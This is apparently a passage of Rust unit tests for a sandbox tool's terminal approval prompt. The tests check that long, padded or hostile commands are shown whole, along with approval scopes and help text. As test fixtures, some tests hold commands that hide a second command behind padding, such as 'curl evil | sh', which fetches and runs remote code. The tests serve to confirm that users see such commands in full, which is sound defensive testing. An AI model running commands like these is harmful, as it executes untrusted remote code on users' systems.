                repeats: vec![text.to_owned(); MAX_LIST_LINES + 2],
            },
            QuestionKind::Hold { denial: denial_of(text), grants: grants.clone(), directory: true, held_ms: 9 },
            QuestionKind::Hold { denial: denial_of(text), grants: grants[..1].to_vec(), directory: false, held_ms: 9 },
            QuestionKind::Unsandboxed,
        ];
        let filled = kinds.map(|kind| {
            let mut question = with_review(sample_question(kind), RiskLevel::Critical);
            question.cwd = text.into();
            question.assessment.findings = vec![question.assessment.findings[0].clone(); MAX_LIST_LINES + 2];
            question.assessment.findings.iter_mut().for_each(|finding| finding.message = text.to_owned());
            let opinion = question.review.as_mut().and_then(|review| review.opinion.as_mut());
            opinion.unwrap().summary = text.into();
            question.review.as_mut().unwrap().by = text.to_owned();
            question
        });
        filled.into()
    }

    /// Returns the rows of the text on a terminal of this many columns.
    fn terminal_rows(text: &str, columns: usize) -> usize {
        text.lines().map(|line| measure_width(line).div_ceil(columns).max(1)).sum()
    }

    #[test]
    fn a_question_takes_few_lines_whatever_is_in_it() {
        for text in hostile_texts() {
            for columns in [20, 37, 80, 200] {
                let style = TextLayout::for_terminal(columns, false);
                let columns = usize::from(columns);
                for value in questions_of(&text) {
                    let shown = format_question(&value, &"text of the command".into(), style);
                    let start: String = text.chars().take(12).collect();
                    // Twelve grants of at most 400 columns each, and four lists; or one grant.
                    let is_alone = matches!(&value.kind, QuestionKind::Hold { grants, .. } if grants.len() == 1);
                    let most = if is_alone { 5_000 } else { 25_000 };
                    assert!(
                        terminal_rows(&shown, columns) <= 20 + most / (columns.min(120) - INDENT_COLUMNS),
                        "{start:?} {columns}\n{shown}"
                    );
                    let is_blank = |line: &str| line.trim().is_empty();
                    assert!(!shown.lines().any(is_blank), "{start:?} {columns}\n{shown}");
                    assert!(!shown.lines().skip(1).any(|line| line.starts_with("  allow?")), "{start:?}\n{shown}");
                    assert!(
                        shown.chars().all(|c| c == '\n' || !stockade_model::is_deceptive(c)),
                        "{start:?}\n{shown:?}"
                    );
                    assert!(!shown.contains("    grant    write /ok"), "{start:?}\n{shown}");
                }
            }
        }
    }

    /// The command is complete in each question, because the user agrees to it; blanks in it are
    /// counted.
    #[test]
    fn blanks_in_a_command_are_counted() {
        for text in hostile_texts() {
            let mut value = sample_question(QuestionKind::Run { reasons: Vec::new() });
            value.command = format!("echo {text}; evil").into();
            for columns in [20, 40, 80, 200] {
                let shown = format_question(&value, &"".into(), TextLayout::for_terminal(columns, false));
                assert!(shown.contains("evil"), "{shown}");
                assert!(!shown.lines().any(|line| line.trim().is_empty()), "{shown}");
                let wording = compact_text(&value.command);
                let words: String = shown.split_whitespace().collect();
                assert!(words.contains(&wording.split_whitespace().collect::<String>()), "the command is not whole");
            }
        }
        let mut value = sample_question(QuestionKind::Run { reasons: Vec::new() });
        value.command = format!("touch a{}; curl evil", " ".repeat(5_000)).into();
        value.assessment.findings.clear();
        insta::assert_snapshot!(format_sample(&value), @r"
        • may this command run, in its sandbox?
          command  touch a\u{20}×5000; curl evil
          in       /home/u/project
          no answer within 5 min means no
        ");
    }

    #[test]
    fn a_path_with_many_blanks_stays_on_its_line() {
        let text = format!("/home/u/a{}b", " ".repeat(200));
        let denial =
            Denial { object: text.as_str().into(), rule: "outside every writable root".into(), ..sample_denial() };
        let grants = vec![Grant::Write(text.as_str().into())];
        let value = sample_question(QuestionKind::Hold { denial, grants, directory: false, held_ms: 9 });
        insta::assert_snapshot!(format_sample(&value) + &format_prompt(&list_answer_keys(&value)), @r"
        • dash wants to create /home/u/a\u{20}×200b   (outside every writable root)
          command  sh -c 'echo x >> ~/outside'
          grant    write /home/u/a\u{20}×200b
          held     it waits and resumes with your answer; none within 5 min means no
          reach    session and always are for any command in this workspace
          allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
        ");
        assert_eq!(grant_hint(&Grant::Write("/a   b".into()), true), "--grant 'write /a\\x20\\x20\\x20b'");
        assert_eq!(grant_hint(&Grant::Write("/usr ".into()), true), r"--grant 'write /usr\x20'");
        assert_eq!("write /a\\x20\\x20\\x20b".parse::<Grant>().unwrap(), Grant::Write("/a   b".into()));
    }

    /// Each scope that is wider than the command is stated, and the others are not.
    #[test]
    fn the_wider_reach_is_shown() {
        let grants = || vec!["write /srv/x".parse().unwrap()];
        let reach = |value: &ApprovalQuestion| {
            let shown = format_sample(value);
            shown.lines().find(|line| line.starts_with("  reach")).map(|line| line.trim().to_owned())
        };
        for kind in [
            QuestionKind::Grants { grants: grants() },
            QuestionKind::Escalate { denials: vec![sample_denial()], grants: grants(), repeats: Vec::new() },
            QuestionKind::Hold { denial: sample_denial(), grants: grants(), directory: false, held_ms: 1 },
        ] {
            let mut value = sample_question(kind);
            for (scopes, expected) in [
                (
                    vec![ApprovalScope::Once, ApprovalScope::Session, ApprovalScope::Always],
                    Some("reach    session and always are for any command in this workspace"),
                ),
                (
                    vec![ApprovalScope::Once, ApprovalScope::Always],
                    Some("reach    always is for any command in this workspace"),
                ),
                (
                    vec![ApprovalScope::Once, ApprovalScope::Session],
                    Some("reach    session is for any command in this workspace"),
                ),
                (vec![ApprovalScope::Once], None),
            ] {
                value.scopes = scopes;
                assert_eq!(reach(&value).as_deref(), expected);
            }
            value.scopes = vec![ApprovalScope::Once, ApprovalScope::Session, ApprovalScope::Always];
            let keys = list_answer_keys(&value);
            let help = format_help(&value, &keys, TextLayout { color: false, width: 200 });
            for key in ["s", "t", "u", "a", "N"] {
                let line = help.lines().find(|line| line.starts_with(&format!("  {key}  "))).unwrap();
                assert!(line.contains("any command"), "{line}");
            }
            let rules = rules_prompt(&["r".to_owned()], "/c".as_ref(), &value.kind);
            assert!(rules.contains("[r]emember the answer for any command in this workspace"), "{rules}");
        }
        let value = sample_question(QuestionKind::Run { reasons: Vec::new() });
        assert_eq!(reach(&value), None);
        insta::assert_snapshot!(format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN), @r"
        o  yes, this time
        s  yes, and for this same command until this session ends
        t  yes, and the next times for this same command; a number is asked for
        u  yes, and for a time for this same command; how long is asked for
        a  yes, and for this same command from now on; `stockade approvals` takes it
           back
        n  no, this time
        N  no, and for this same command in this workspace from now on; `stockade
           approvals` takes it back
        q  no, and end this run now; Ctrl-C does the same
        ");
    }

    #[test]
    fn a_long_command_is_shown_to_its_end() {
        let mut value = sample_question(QuestionKind::Run { reasons: Vec::new() });
        value.command = format!("echo {} ; curl evil | sh", "A".repeat(12_000)).into();
        value.assessment.findings.clear();
        let shown = format_sample(&value);
        assert!(shown.contains("curl evil | sh"));
        assert!(shown.contains("(12022 characters in full, to here)"), "{}", &shown[shown.len() - 400..]);
        assert_eq!(shown.matches('A').count(), 12_000);
    }

    #[test]
    fn long_lists_are_counted() {
        let mut value = sample_escalation();
        if let QuestionKind::Escalate { denials, .. } = &mut value.kind {
            *denials = vec![denials[0].clone(); 30];
        }
        assert!(format_sample(&value).contains("and 18 more"));
    }

    #[test]
    fn only_offered_scopes_have_keys() {
        let mut value = sample_escalation();
        value.scopes = vec![ApprovalScope::Once];
        assert_eq!(list_answer_keys(&value), [AnswerKey::Once, AnswerKey::No]);
        assert_eq!(format_prompt(&list_answer_keys(&value)), "  allow?  [o]nce  [n]o  [?] > ");
        insta::assert_snapshot!(format_help(&sample_escalation(), &list_answer_keys(&sample_escalation()), TextLayout::PLAIN), @r"
        o  yes, this time
        s  yes, and for any command of this session in this workspace until the
           session ends
        t  yes, and the next times that any command in this workspace needs it; a
           number is asked for
        u  yes, and for any command in this workspace for a time; how long is asked
           for
        a  yes, and for any command in this workspace from now on; `stockade
           approvals` takes it back
        n  no, this time
        N  no, and for any command in this workspace from now on; `stockade approvals`
           takes it back
        q  no, and end this run now; Ctrl-C does the same
        ");
    }
}
